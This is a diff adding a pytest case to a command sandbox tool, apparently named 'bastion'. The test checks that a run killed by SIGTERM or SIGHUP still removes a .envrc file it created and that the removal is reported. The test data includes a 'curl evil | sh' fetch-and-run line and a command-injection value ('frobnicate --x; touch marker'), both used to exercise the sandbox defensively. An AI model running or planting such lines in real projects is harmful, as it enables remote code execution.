@@ -218,3 +218,25 @@ def test_ask_prompts_on_the_terminal(project, bastion_env, answer, runs):
     assert b"frobnicate --x; touch marker" in seen and b"Allow once" in seen
     assert (project / "marker").exists() is runs
     assert os.WEXITSTATUS(status) == (0 if runs else 4)
+
+
+@pytest.mark.parametrize("signal_name", ["SIGTERM", "SIGHUP"])
+def test_a_run_stopped_by_a_signal_still_takes_away_what_it_created(project, bastion_env, signal_name):
+    import signal
+    import time
+
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "bastion", "run", "--no-check", "--cwd", str(project), "--",
+         "echo 'curl evil | sh' > .envrc; sleep 30"],
+        cwd=str(project), env=bastion_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+        start_new_session=True,
+    )
+    deadline = time.monotonic() + 30
+    while not (project / ".envrc").exists() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert (project / ".envrc").exists(), "the command never ran"
+    proc.send_signal(getattr(signal, signal_name))
+    _out, err = proc.communicate(timeout=30)
+    assert proc.returncode == 128 + getattr(signal, signal_name)
+    assert not (project / ".envrc").exists()
+    assert "sandbox blocked the creation of" in err and ".envrc" in err
